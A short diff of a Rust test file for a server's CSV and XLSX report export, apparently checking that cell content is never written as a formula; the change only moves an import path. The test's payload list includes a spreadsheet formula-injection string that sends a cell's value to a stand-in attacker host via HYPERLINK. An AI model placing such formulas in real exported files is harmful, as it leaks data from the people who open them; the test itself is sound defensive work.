@@ -3,7 +3,7 @@
 //! cell in the XLSX, never a formula; numbers stay numbers.
 
 use calamine::{Data, Reader};
-use zhuqi_server::reports::{Cell, Table, csv_bytes, xlsx_bytes};
+use zhuqi_server::dashboard::reports::{Cell, Table, csv_bytes, xlsx_bytes};
 
 const ATTACKS: [&str; 5] = [
     "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"查看详情\")",
